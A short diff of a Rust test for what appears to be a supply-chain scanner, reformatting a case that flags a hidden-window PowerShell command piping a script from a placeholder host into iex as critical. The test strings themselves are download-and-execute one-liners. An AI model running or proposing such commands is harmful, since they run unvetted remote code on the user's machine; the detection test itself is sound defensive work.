@@ -333,7 +333,8 @@ fn persisted_hook_that_uploads_local_data() {
 fn remote_code_in_a_hidden_window() {
     let rule = "supply_chain.remote-code";
     // An unknown host's script run in a hidden window: the Run-dialog one-liner (issue 14).
-    let hidden = "powershell -nop -WindowStyle Hidden -c \"irm https://repair.tool.example/a.ps1 | iex\"\n";
+    let hidden =
+        "powershell -nop -WindowStyle Hidden -c \"irm https://repair.tool.example/a.ps1 | iex\"\n";
     assert_eq!(worst(&[("fix.ps1", hidden)], rule), Some(Critical));
     // The same run in a visible window stays a review.
     let shown = "powershell -nop -c \"irm https://repair.tool.example/a.ps1 | iex\"\n";
